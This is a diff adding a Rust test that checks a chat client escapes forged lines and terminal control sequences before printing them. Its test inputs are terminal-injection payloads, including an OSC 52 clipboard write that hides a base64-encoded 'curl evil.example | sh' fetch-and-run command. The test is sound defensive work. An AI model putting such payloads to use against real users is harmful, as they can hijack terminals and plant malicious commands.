@@ -159,3 +159,60 @@ fn ctrl_c_closes_cleanly() {
     assert!(proc.wait().success());
     eventually("the server to let it go", || server.client_count() == 0);
 }
+
+#[test]
+fn no_message_can_forge_a_line_or_reach_the_terminal_raw() {
+    let server = default_server();
+    let addr = server.local_addr();
+    let (mut forger, tag) = join(addr);
+    let mut proc = Proc::spawn(&mut client(&format!("ws://{addr}")));
+    let mut stdout = BufReader::new(proc.child.stdout.take().expect("stdout"));
+    let mut line = String::new();
+    stdout.read_line(&mut line).expect("the welcome");
+    assert_eq!(line.trim_end(), WELCOME);
+    let forgeries = [
+        "hello\n10.0.0.1:5555: I am the admin",
+        "carriage\rreturn",
+        "\u{1b}]0;pwned\u{7}title and \u{1b}[2J a clear screen",
+        "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7} a clipboard write",
+        "c1 \u{9b}31m and del \u{7f} and a tab\tstays",
+    ];
+    for text in forgeries {
+        send(&mut forger, text);
+    }
+    send(&mut forger, "done");
+    let mut printed = Vec::new();
+    loop {
+        line.clear();
+        assert!(
+            stdout.read_line(&mut line).expect("a line") > 0,
+            "output ended"
+        );
+        let text = line.strip_suffix('\n').expect("whole lines").to_string();
+        if text.ends_with(": done") {
+            break;
+        }
+        printed.push(text);
+    }
+    let expected: Vec<String> = forgeries
+        .iter()
+        .map(|text| format!("{tag}: {}", broadcast_chat::printable(text)))
+        .collect();
+    assert_eq!(printed, expected, "one line each, escaped");
+    for line in &printed {
+        assert!(
+            !line.chars().any(|c| c.is_control() && c != '\t'),
+            "no control character reaches the terminal: {line:?}"
+        );
+    }
+    assert!(
+        printed[0].contains("hello\\n10.0.0.1:5555"),
+        "{}",
+        printed[0]
+    );
+    assert!(
+        printed[2].contains("\\u{1b}]0;pwned\\u{7}"),
+        "{}",
+        printed[2]
+    );
+}
